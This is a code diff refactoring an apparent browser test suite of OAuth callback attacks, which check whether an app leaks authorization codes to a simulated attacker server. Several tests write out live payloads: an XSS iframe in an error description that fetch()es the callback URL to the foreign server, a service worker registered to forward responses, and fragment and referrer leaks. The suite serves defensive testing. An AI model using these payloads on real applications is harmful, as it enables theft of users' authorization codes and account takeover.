@@ -1,4 +1,4 @@
-import type { Attack } from '../attack.ts';
+import type { Attack, Spoils } from '../attack.ts';
 import type { Scene } from '../scene.ts';
 import { PLAIN_PAGE } from '../site.ts';
 import { comesTrue } from '../until.ts';
@@ -26,14 +26,25 @@ export function breaking(
   };
 }
 
-/** Waits until the attacker's server has been sent a code, which the detector finds there. */
-async function waitForCode({ servers: { foreign }, timeoutMs }: Scene, before: number): Promise<void> {
+/** Does something, and waits until the attacker's server has been sent a code, which the detector finds there. */
+async function sendCode({ servers: { foreign }, timeoutMs }: Scene, act: () => Promise<unknown>): Promise<Spoils> {
+  const before = foreign.requests.length;
+  await act();
   // As a parameter of the path or of a form, also where a whole URL is a parameter itself.
   const hasCode = (text: string): boolean => /code(=|%3D)/.test(text);
   await comesTrue(
     async () => foreign.requests.slice(before).some(({ path, body }) => hasCode(path) || hasCode(body)),
     timeoutMs,
   );
+  return { seen: [] };
+}
+
+/** Runs a flow in the attacker's own tab, and waits until it is back at the app. */
+async function comeBack(scene: Scene, parameters: Readonly<Record<string, string>> = {}): Promise<void> {
+  const { tab, site, timeoutMs } = scene;
+  await tab.goto(authorizeUrl(scene, parameters)).catch(() => {});
+  const isBack = (own: string): boolean => location.origin === own && document.readyState === 'complete';
+  await comesTrue(() => tab.evaluate(isBack, site.origin), timeoutMs);
 }
 
 /** Paths at which the origin of the callback has something. */
@@ -57,12 +68,8 @@ export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
     id: 'C63',
     title: 'runs a flow with a fragment that the redirects carry along, and names a server of its own there',
     act: async (scene) => {
-      const { foreign } = scene.servers;
-      const before = foreign.requests.length;
-      const action = new URLSearchParams({ action: `${foreign.origin}/take` });
-      await scene.tab.goto(`${authorizeUrl(scene)}#${action}`).catch(() => {});
-      await waitForCode(scene, before);
-      return { seen: [] };
+      const action = new URLSearchParams({ action: `${scene.servers.foreign.origin}/take` });
+      return sendCode(scene, () => scene.tab.goto(`${authorizeUrl(scene)}#${action}`).catch(() => {}));
     },
   }),
   breaking('allows other origins', {
@@ -88,21 +95,16 @@ export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
     naive: 'weak-callback',
     tokenward: 'isolated',
     act: async (scene) => {
-      const { tab, site, timeoutMs } = scene;
-      await tab.goto(authorizeUrl(scene, { redirect_uri: site.origin + PLAIN_PAGE })).catch(() => {});
-      await comesTrue(() => tab.evaluate((own) => location.origin === own, site.origin), timeoutMs);
-      return { seen: await tab.evaluate(() => location.href) };
+      await comeBack(scene, { redirect_uri: scene.site.origin + PLAIN_PAGE });
+      return { seen: await scene.tab.evaluate(() => location.href) };
     },
   },
   breaking('redirects to the app', {
     id: 'C66',
     title: 'runs a flow in its own tab, with the response in the fragment, which redirects carry along to the app',
     act: async (scene) => {
-      const { tab, site, timeoutMs } = scene;
-      await tab.goto(authorizeUrl(scene, { response_mode: 'fragment' })).catch(() => {});
-      const isBack = (own: string): boolean => location.origin === own && document.readyState === 'complete';
-      await comesTrue(() => tab.evaluate(isBack, site.origin), timeoutMs);
-      return { seen: await tab.evaluate(() => location.href) };
+      await comeBack(scene, { response_mode: 'fragment' });
+      return { seen: await scene.tab.evaluate(() => location.href) };
     },
   }),
   breaking('serves more', {
@@ -111,14 +113,11 @@ export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
     ruins: 'naive profile',
     act: async (scene) => {
       const { tab, servers, timeoutMs } = scene;
-      const before = servers.foreign.requests.length;
       const script = `navigator.serviceWorker.register('${OTHER_SCRIPT}?to=${servers.foreign.origin}')`;
       const text = `<script>${script}.then(() => navigator.serviceWorker.ready).then(() => (document.title = 'there'))</script>`;
       await tab.goto(onCallbackOrigin(scene, OTHER_DOCUMENT, { text }));
       if (!(await comesTrue(() => tab.evaluate(() => document.title === 'there'), timeoutMs))) return { seen: [] };
-      await tab.goto(authorizeUrl(scene)).catch(() => {});
-      await waitForCode(scene, before);
-      return { seen: [] };
+      return sendCode(scene, () => tab.goto(authorizeUrl(scene)).catch(() => {}));
     },
   }),
   breaking('shows a parameter', {
@@ -126,12 +125,10 @@ export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
     title: 'puts a script into the description of an error, and runs a flow in a frame of the callback’s document',
     act: async (scene) => {
       const { foreign } = scene.servers;
-      const before = foreign.requests.length;
       const look = `fetch('${foreign.origin}/take?' + encodeURIComponent(this.contentWindow.location.href))`;
       const frame = `<iframe src="${authorizeUrl(scene).replaceAll('&', '&amp;')}" onload="${look}"></iframe>`;
-      await scene.tab.goto(onCallbackOrigin(scene, '', { error: 'access_denied', error_description: frame }));
-      await waitForCode(scene, before);
-      return { seen: [] };
+      const url = onCallbackOrigin(scene, '', { error: 'access_denied', error_description: frame });
+      return sendCode(scene, () => scene.tab.goto(url));
     },
   }),
   breaking('tells its URL', {
@@ -139,11 +136,8 @@ export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
     title: 'runs a flow in its own tab, and reads the referrer of the page of the app that comes after it',
     notIn: { webkit: 'tells a page of another origin no more than the origin it came from' },
     act: async (scene) => {
-      const { tab, site, timeoutMs } = scene;
-      await tab.goto(authorizeUrl(scene)).catch(() => {});
-      const isBack = (own: string): boolean => location.origin === own && document.readyState === 'complete';
-      await comesTrue(() => tab.evaluate(isBack, site.origin), timeoutMs);
-      return { seen: await tab.evaluate(() => document.referrer) };
+      await comeBack(scene);
+      return { seen: await scene.tab.evaluate(() => document.referrer) };
     },
   }),
   breaking('repeats the response', {
@@ -162,12 +156,9 @@ export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
     title: 'unregisters the worker, and has the app’s server post the response on to a server of its own',
     ruins: 'profiles',
     act: async (scene) => {
-      const before = scene.servers.foreign.requests.length;
       await endWorker(scene);
       await setCookie(scene);
-      await scene.tab.goto(authorizeUrl(scene)).catch(() => {});
-      await waitForCode(scene, before);
-      return { seen: [] };
+      return sendCode(scene, () => scene.tab.goto(authorizeUrl(scene)).catch(() => {}));
     },
   }),
   breaking('posts the response on', {
@@ -176,7 +167,6 @@ export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
     ruins: 'naive profile',
     act: async (scene) => {
       const { tab, site } = scene;
-      const before = scene.servers.foreign.requests.length;
       await tab.goto(site.origin + PLAIN_PAGE);
       await setCookie(scene);
       await tab.evaluate((url) => {
@@ -187,9 +177,7 @@ export const ISOLATED_CALLBACK_ATTACKS: readonly Attack[] = [
         window.addEventListener('message', () => (document.documentElement.dataset['clicked'] = 'yes'));
         document.body.append(frame);
       }, authorizeUrl(scene));
-      await clickUntilSeen(scene);
-      await waitForCode(scene, before);
-      return { seen: [] };
+      return sendCode(scene, () => clickUntilSeen(scene));
     },
   }),
 ];
